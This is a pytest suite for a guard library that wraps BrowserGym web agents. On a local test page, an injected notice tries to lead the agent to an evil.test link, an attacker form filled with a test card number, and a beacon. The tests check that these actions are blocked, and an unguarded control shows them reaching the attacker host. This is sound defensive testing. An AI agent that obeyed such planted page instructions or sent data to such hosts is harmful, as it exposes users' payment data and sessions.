"""BrowserGym: an agent's actions in a guarded BrowserGym environment run through the guard;
a refused action comes back as the step's ``last_action_error`` with the guidance.

Real BrowserGym (`browsergym-core`), real Chromium, a task page on 127.0.0.1 with a planted
injection. The unguarded control shows each attack is real: the same action there reaches
evil.test."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browsergym.core.action.highlevel import HighLevelActionSet
from browsergym.core.env import BrowserEnv

from pagewarden import Guard, PolicySet
from pagewarden._browser import chromium_launch_options
from pagewarden.integrations.browsergym import GuardedBrowserEnv
from pagewarden.integrations.browsergym._bridge import bind
from pagewarden.integrations.browsergym._env import _launching
from pagewarden.testing import LocalSite
from pagewarden.trace import read_trace

from ._gym import GOAL, POLICIES, DeskTask, bid, desk_site, stop_browsergym_playwright

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def desk() -> Iterator[LocalSite]:
    with desk_site() as site:
        yield site
    stop_browsergym_playwright()


@pytest.fixture
def fresh(desk: LocalSite) -> LocalSite:
    desk.requests.clear()
    return desk


def _env(site: LocalSite, subsets: tuple[str, ...] = ("chat", "infeas", "bid", "nav", "tab")) -> BrowserEnv:
    # BrowserGym's actions time out after 500 ms; on a loaded machine they retry with force
    actions = HighLevelActionSet(subsets=list(subsets), retry_with_force=True)
    return BrowserEnv(
        task_entrypoint=DeskTask, task_kwargs={"url": site.url("shop.test", "/")}, headless=True,
        action_mapping=actions.to_python_code,
    )


@pytest.fixture
def guarded(fresh: LocalSite, tmp_path: Path) -> Iterator[GuardedBrowserEnv]:
    env = GuardedBrowserEnv(
        _env(fresh), policies=PolicySet.from_dict(POLICIES), host_map={"*.test": fresh.port},
        trace=tmp_path / "trace.jsonl",
    )
    yield env
    env.close()


def _evil(site: LocalSite) -> list[Any]:
    return site.requests_to("evil.test")


def _refused(obs: dict[str, Any]) -> str:
    error = obs["last_action_error"]
    assert error.startswith("ActionBlocked: "), error
    assert not error.startswith("ActionBlocked: ActionBlocked"), error  # named once
    assert "Guidance:" in error
    return error


def test_planted_injection_is_refused_with_guidance_then_the_task_completes(
    guarded: GuardedBrowserEnv, fresh: LocalSite, tmp_path: Path
) -> None:
    obs, _ = guarded.reset()
    assert guarded.guard.goal == GOAL  # the task's goal became the guard's
    assert obs["last_action_error"] == ""

    # the link the planted notice asks for
    obs, reward, terminated, _, _ = guarded.step(
        f"click('{bid(guarded, '#evil-link')}')", reasoning="The notice says to verify my session first."
    )
    error = _refused(obs)
    assert "SHOP" in error and "evil.test" in error
    assert obs["url"] == fresh.url("shop.test", "/") and reward == 0 and not terminated

    # a card number typed into the attacker's form, then its submit button, then Enter in it
    obs, *_ = guarded.step(f"fill('{bid(guarded, '#evil-field')}', '4111 1111 1111 1111')")
    assert "CARD" in _refused(obs)
    obs, *_ = guarded.step(f"click('{bid(guarded, '#evil-submit')}')")
    _refused(obs)
    obs, *_ = guarded.step(f"press('{bid(guarded, '#evil-field')}', 'Enter')")
    _refused(obs)
    # navigating there, in this tab or a new one
    obs, *_ = guarded.step("goto('http://evil.test/collect?from=goto')")
    _refused(obs)
    obs, *_ = guarded.step("new_tab()")
    assert obs["last_action_error"] == ""
    obs, *_ = guarded.step("goto('http://evil.test/collect?from=tab')")
    _refused(obs)
    obs, *_ = guarded.step("tab_focus(0)")
    assert obs["last_action_error"] == ""
    assert _evil(fresh) == []

    # the benign steps run, and the task completes
    obs, reward, terminated, *_ = guarded.step(f"fill('{bid(guarded, '#note')}', 'hello')")
    assert obs["last_action_error"] == ""
    obs, reward, terminated, *_ = guarded.step(f"click('{bid(guarded, '#send')}')")
    assert obs["last_action_error"] == "" and reward == 1.0 and terminated
    assert [r.form for r in fresh.requests_to("shop.test", "/order")] == [{"note": ["hello"]}]
    assert _evil(fresh) == []

    # every action was judged and traced, the agent's reasoning with its step
    records = list(read_trace(tmp_path / "trace.jsonl"))
    assert records[0].step.reasoning == "The notice says to verify my session first."
    assert records[0].verdict.decision.value == "block"
    assert sum(r.verdict.decision.value == "allow" for r in records) >= 2


def test_mouse_and_keyboard_actions_are_judged_where_they_land(fresh: LocalSite) -> None:
    guarded = GuardedBrowserEnv(
        _env(fresh, ("bid", "coord", "nav")),
        policies=PolicySet.from_dict(POLICIES),
        host_map={"*.test": fresh.port},
    )
    try:
        _mouse_and_keyboard(guarded, fresh)
    finally:
        guarded.close()


def _mouse_and_keyboard(guarded: GuardedBrowserEnv, fresh: LocalSite) -> None:
    guarded.reset()
    box = guarded.unwrapped.page.locator("#evil-link").bounding_box()
    assert box is not None
    obs, *_ = guarded.step(f"mouse_click({box['x'] + 3}, {box['y'] + 3})")
    _refused(obs)
    guarded.unwrapped.page.focus("#evil-link")
    obs, *_ = guarded.step("keyboard_press('Enter')")
    _refused(obs)
    assert _evil(fresh) == []


def test_unguarded_control_reaches_the_attacker(fresh: LocalSite) -> None:
    """The same attacks on the same environment without the guard: they succeed."""
    env = _env(fresh)
    try:
        with _launching(chromium_launch_options(host_map={"*.test": fresh.port})):
            env.reset()
        obs, *_ = env.step(f"click('{bid(env, '#evil-link')}')")
        assert obs["last_action_error"] == ""
        assert "/collect" in [r.path for r in _evil(fresh)]
    finally:
        env.close()


def test_network_layer_refuses_what_the_page_itself_sends(fresh: LocalSite) -> None:
    """With ``proxy=True`` the page's own requests go through the network layer: a benign
    click whose page script beacons to evil.test runs, the beacon is refused on the wire."""
    env = GuardedBrowserEnv(
        _env(fresh), policies=PolicySet.from_dict(POLICIES), host_map={"*.test": fresh.port}, proxy=True
    )
    try:
        env.reset()
        events: list[Any] = []
        env.guard.subscribe(events.append)
        obs, *_ = env.step(f"click('{bid(env, '#beacon')}')")
        assert obs["last_action_error"] == ""
        refused = [e.data for e in events if e.kind == "network"]
        assert any("evil.test" in str(data) for data in refused), refused
        obs, *_ = env.step(f"click('{bid(env, '#evil-link')}')")
        _refused(obs)
        obs, *_ = env.step(f"fill('{bid(env, '#note')}', 'hello')")
        obs, reward, terminated, *_ = env.step(f"click('{bid(env, '#send')}')")
        assert obs["last_action_error"] == "" and reward == 1.0 and terminated
        assert _evil(fresh) == []
        assert fresh.requests_to("shop.test", "/order")
    finally:
        env.close()
    assert env._network is None


def test_action_code_fails_closed_without_its_guard() -> None:
    with pytest.raises(RuntimeError, match="did not run"):
        bind(object(), print, "no-such-environment")


def test_only_a_browsergym_environment_is_wrapped() -> None:
    import gymnasium

    class Other(gymnasium.Env):
        pass

    with pytest.raises(TypeError, match="BrowserGym"):
        GuardedBrowserEnv(Other())
    with pytest.raises(TypeError, match="either a Guard"):
        GuardedBrowserEnv(_env_stub(), Guard(), goal="x")


def _env_stub() -> BrowserEnv:
    return BrowserEnv(task_entrypoint=DeskTask, task_kwargs={"url": "http://shop.test/"})


def test_the_example_runs() -> None:
    """examples/browsergym_guarded.py, as a user runs it."""
    import subprocess
    import sys

    example = Path(__file__).parents[2] / "examples" / "browsergym_guarded.py"
    done = subprocess.run([sys.executable, str(example)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "refused: ActionBlocked: " in done.stdout and "ActionBlocked: ActionBlocked" not in done.stdout
    assert "task done: True reward: 1.0" in done.stdout
    assert "requests to evil.test: 0" in done.stdout
